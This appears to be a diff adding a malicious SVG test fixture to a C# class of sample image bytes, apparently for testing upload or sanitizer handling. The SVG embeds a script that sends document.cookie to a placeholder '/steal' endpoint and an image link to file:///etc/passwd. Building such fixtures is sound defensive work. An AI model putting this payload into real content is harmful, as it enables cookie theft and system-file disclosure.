@@ -14,6 +14,12 @@ public static class ImageBytes
         "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\">" +
         "<rect width=\"64\" height=\"64\" fill=\"red\"/></svg>\n");
 
+    /// <summary>An SVG that would run a script and fetch a remote resource if anything rendered it.</summary>
+    public static byte[] SvgWithScript { get; } = Encoding.UTF8.GetBytes(
+        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"64\" height=\"64\">" +
+        "<script type=\"text/javascript\">fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script>" +
+        "<image xlink:href=\"file:///etc/passwd\" width=\"64\" height=\"64\"/><rect width=\"64\" height=\"64\" fill=\"red\"/></svg>\n");
+
     public static byte[] PdfHeader { get; } = Encoding.ASCII.GetBytes(
         "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" +
         "trailer\n<< /Root 1 0 R >>\n%%EOF\n");
